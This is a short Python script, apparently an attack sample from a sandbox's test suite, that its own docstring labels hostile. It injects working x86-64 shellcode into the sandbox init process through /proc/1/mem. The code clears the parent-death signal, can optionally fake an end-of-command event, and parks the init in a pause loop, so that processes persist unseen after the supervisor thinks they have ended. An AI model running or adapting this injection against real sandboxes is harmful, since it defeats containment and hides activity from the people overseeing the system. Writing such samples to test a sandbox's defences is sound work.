"""Hostile: changes the memory of the sandbox's init, so that it no longer dies with its parent, and stays.

take-over-init.py end   the init then reports the end of the command, while everything goes on
take-over-init.py stay  it reports nothing
"""
import os, sys, time

END = 20
if os.fork() == 0:
    os.setsid()
    until = time.time() + END
    while time.time() < until:
        with open('alive', 'w') as f: f.write(str(time.time()))
        time.sleep(0.05)
    os._exit(0)

CLEAR = b'\xb8\x9d\x00\x00\x00\xbf\x01\x00\x00\x00\x31\xf6\x0f\x05'  # prctl(PR_SET_PDEATHSIG, 0)
SAY = b'\x6a\x01\x48\x89\xe6\xba\x08\x00\x00\x00\xbf%c\x00\x00\x00\xb8\x01\x00\x00\x00\x0f\x05'  # write(event, 1)
PAUSE = b'\xb8\x22\x00\x00\x00\x0f\x05\xeb\xf7'  # for (;;) pause()

# The init waits for the command. It continues here when the command or any orphan ends.
at = int(open('/proc/1/syscall').read().split()[-1], 16)
event = next(int(n) for n in os.listdir('/proc/1/fd') if 'eventfd' in os.readlink('/proc/1/fd/' + n))
code = CLEAR + (SAY % event if sys.argv[1] == 'end' else b'') + PAUSE
memory = os.open('/proc/1/mem', os.O_RDWR)
assert os.pwrite(memory, code, at) == len(code)
print('taken', flush=True)
if sys.argv[1] == 'end': sys.exit(0)
# An orphan wakes the init, which then runs the written code.
if os.fork() == 0:
    if os.fork() == 0: time.sleep(0.05); os._exit(0)
    os._exit(0)
os.wait()
time.sleep(0.3)
print('stays', flush=True)
time.sleep(END)
